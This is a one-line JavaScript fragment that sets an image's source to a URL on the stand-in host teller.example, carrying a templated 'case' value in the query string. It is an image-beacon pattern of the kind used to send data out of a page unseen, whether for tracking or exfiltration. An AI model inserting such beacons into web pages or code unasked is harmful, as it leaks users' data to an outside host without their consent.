new Image().src = "https://teller.example/?case=$case";
